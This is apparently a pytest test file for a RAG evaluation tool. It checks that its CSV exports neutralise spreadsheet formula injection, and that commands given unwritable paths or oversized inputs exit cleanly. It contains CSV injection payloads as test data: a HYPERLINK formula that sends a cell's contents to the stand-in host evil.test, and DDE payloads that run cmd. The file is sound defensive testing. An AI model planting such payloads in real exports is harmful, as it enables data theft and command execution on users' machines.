"""Issue 27.7 and 27.16: what ragmeter writes out, under attack.

- 27.7 CSV formula injection: a run whose questions, ids, tags, documents and errors
  start with ``=``, ``+``, ``-``, ``@`` is exported as CSV by every writer (``export
  --format csv``, MLflow's ``per_question.csv``, ``/api/runs/N/questions.csv``,
  ``/api/compare/questions.csv``); each cell is read back with the csv module and checked
  against the OWASP rule written out here.
- 27.16 output paths: every command that writes a file, given a folder or an unwritable
  path, exits 2 naming the path, with no traceback.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from _web_fixtures import get_text
from ragmeter.cli import main
from ragmeter.evaluation.evaluate import evaluate
from ragmeter.gold.goldset import GoldSet
from ragmeter.store import Store

# What LibreOffice and Excel evaluated in the red-team pass, and the other starts.
ATTACKS = {
    "hyperlink": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _gold() -> GoldSet:
    records = [
        {"id": f"{text[:1]}{name}", "question": text, "tags": [text], "relevant": [{"doc": text}]}
        for name, text in ATTACKS.items()
    ]
    return GoldSet.from_records(records, name="hostile")


def _search(question: str, k: int) -> list[dict[str, Any]]:
    if question.startswith("-"):
        raise RuntimeError('=HYPERLINK("http://evil.test")')  # an error message, too
    return [{"id": f"{question}#0", "doc": question, "text": question}]


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    db = tmp_path / "runs.db"
    with Store.open(db) as store:
        for name in ("=a", "@b"):
            evaluate(_gold(), _search, k=3, name=name, store=store)
    return db


def _formula(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? (OWASP: these first characters.)"""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)  # "-0.5" written from a number is data, not a formula
    except ValueError:
        return True
    return False


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_finding_07_csv_formula_injection_neutralised_everywhere(
    hostile_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 27.7: every CSV writer prefixes a text cell that starts like a formula with a
    single quote: 0 formula cells in the export, the API's two CSVs and MLflow's CSV, and
    each attack is still there, as text."""
    store = ["--store", str(hostile_store)]
    out = tmp_path / "run.csv"
    result = CliRunner().invoke(main, ["export", "1", "--format", "csv", "--out", str(out), *store])
    assert result.exit_code == 0, result.output
    texts = {
        "export --format csv": out.read_text(encoding="utf-8"),
        "/api/runs/1/questions.csv": _api_csv(hostile_store, "/api/runs/1/questions.csv"),
        "/api/compare/questions.csv": _api_csv(hostile_store, "/api/compare/questions.csv?a=1&b=2"),
    }
    if _has_mlflow():
        monkeypatch.setenv("MLFLOW_ALLOW_FILE_STORE", "true")
        monkeypatch.setenv("MLFLOW_TRACKING_URI", f"file://{tmp_path / 'mlruns'}")
        result = CliRunner().invoke(main, ["export", "1", "--to", "mlflow", *store])
        assert result.exit_code == 0, result.output
        (logged,) = (tmp_path / "mlruns").rglob("per_question.csv")
        texts["MLflow per_question.csv"] = logged.read_text(encoding="utf-8")
    for where, text in texts.items():
        cells = _cells(text)
        assert [c for c in cells if _formula(c)] == [], where
        # The attacks are kept as text, behind the quote (questions in every per-run CSV).
        for attack in ATTACKS.values():
            assert "'" + attack in cells, (where, attack)


def _api_csv(db: Path, path: str) -> str:
    from ragmeter.web.app import create_app

    return get_text(create_app(str(db)), path)


def _has_mlflow() -> bool:
    try:
        import mlflow  # noqa: F401
    except ImportError:
        return False
    return True


def test_neutral_cell_keeps_numbers_and_plain_text() -> None:
    """Issue 27.7: only text starting like a formula changes; numbers and the rest stay."""
    from ragmeter.formats.spreadsheet import csv_text

    text = csv_text(["a", "b", "c", "d"], [{"a": -0.25, "b": "a=b", "c": "\tx", "d": None}])
    assert text == "a,b,c,d\n-0.25,a=b,'\tx,\n"


# -- 27.16: every command that writes a file, given a path it cannot write -------------


GOLD = [{"id": "q1", "question": "How long do refunds take?", "relevant": [{"doc": "d0"}]}]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "gold.yaml").write_text(yaml.safe_dump(GOLD), encoding="utf-8")
    (tmp_path / "import.csv").write_text("question\nHow long?\n", encoding="utf-8")
    accepted = [{"id": "c1", "question": "Where?", "relevant": [{"doc": "d0"}],
                 "status": "accepted"}]  # fmt: skip
    (tmp_path / "candidates.yaml").write_text(yaml.safe_dump(accepted), encoding="utf-8")
    (tmp_path / "folder.yaml").mkdir()
    with Store.open(tmp_path / "runs.db") as store:
        evaluate(GoldSet.from_records(GOLD), _search, k=3, name="r", store=store)
    return tmp_path


def _writers(project: Path, out: Path) -> dict[str, list[str]]:
    store = ["--store", str(project / "runs.db")]
    return {
        "export jsonl": ["export", "1", "--out", str(out), *store],
        "export csv": ["export", "1", "--format", "csv", "--out", str(out), *store],
        "export parquet": ["export", "1", "--format", "parquet", "--out", str(out), *store],
        "export trec --qrels-out": ["export", "1", "--format", "trec", "--out",
                                    str(project / "ok.trec"), "--qrels-out", str(out), *store],
        "report --html": ["report", "1", "--html", str(out), *store],
        "gold import": ["gold", "import", str(project / "import.csv"), "--from", "csv",
                        "--out", str(out)],
        "gate --markdown": ["gate", "--baseline", "1", "--candidate", "1", "--markdown",
                            str(out), *store],
        "flywheel export": ["flywheel", "export", "--out", str(out), *store],
        "generate variants": ["generate", "variants", str(project / "gold.yaml"), "--kinds",
                              "typo", "--out", str(out)],
        "gold merge": ["gold", "merge", str(project / "candidates.yaml"), str(out)],
        "gold apply-edits": ["gold", "apply-edits", str(project / "gold.yaml"), "--out",
                             str(out), *store],
    }  # fmt: skip


#: Paths no writer can use, root or not (the tests run as root in CI containers).
BAD_OUTPUTS = {
    "a folder": lambda project: project / "folder.yaml",
    "a path under a file": lambda project: project / "gold.yaml" / "out.yaml",
    "a name too long": lambda project: project / ("x" * 300 + ".yaml"),
}


@pytest.mark.parametrize("where", list(BAD_OUTPUTS))
def test_finding_16_unwritable_output_paths_exit_2_naming_the_path(
    project: Path, where: str
) -> None:
    """Issue 27.16: `export --out DIR`, `report --html` to an unwritable path (and every
    other command that writes a file) were tracebacks; now exit 2 naming the path."""
    out = BAD_OUTPUTS[where](project)
    for name, args in _writers(project, out).items():
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 2, (name, result.output, result.exception)
        assert str(out) in result.output, (name, result.output)
        assert "Traceback" not in result.output


def test_issue27_docstring_examples_run() -> None:
    """Issue 27: the examples in the docstrings of what this pass changed are true."""
    import doctest
    import importlib

    from ragmeter._redact import forget_secrets

    names = ["ragmeter.formats.spreadsheet", "ragmeter.formats.output", "ragmeter._redact",
             "ragmeter.retrievers.presets", "ragmeter.web.guard", "ragmeter.web.edits"]  # fmt: skip
    for name in names:
        failures, tried = doctest.testmod(importlib.import_module(name))
        assert (failures, tried > 0) == (0, True), name
    forget_secrets()  # the _redact examples remembered values


def test_finding_16_oversized_inputs_exit_2_naming_the_file(project: Path) -> None:
    """Issue 27.16: each command that writes a file, given an input past a limit (a CSV field
    over 131,072 characters, YAML nested past the reader's depth), exits 2 naming the input
    file and writes nothing."""
    big = project / "big.csv"
    big.write_text("question\n" + "a" * 131_073 + "\n", encoding="utf-8")
    deep = project / "deep.yaml"
    deep.write_text("- id: q1\n  question: x\n  relevant: " + "[" * 5000 + "]" * 5000 + "\n")
    out = project / "written.yaml"
    store = ["--store", str(project / "runs.db")]
    commands = {
        "gold import": (big, ["gold", "import", str(big), "--from", "csv", "--out", str(out)]),
        "generate variants": (deep, ["generate", "variants", str(deep), "--out", str(out)]),
        "gold merge": (deep, ["gold", "merge", str(deep), str(out)]),
        "gold apply-edits": (deep, ["gold", "apply-edits", str(deep), "--out", str(out), *store]),
    }
    for name, (source, args) in commands.items():
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 2, (name, result.output, result.exception)
        assert str(source) in result.output, (name, result.output)
        assert not out.exists(), name
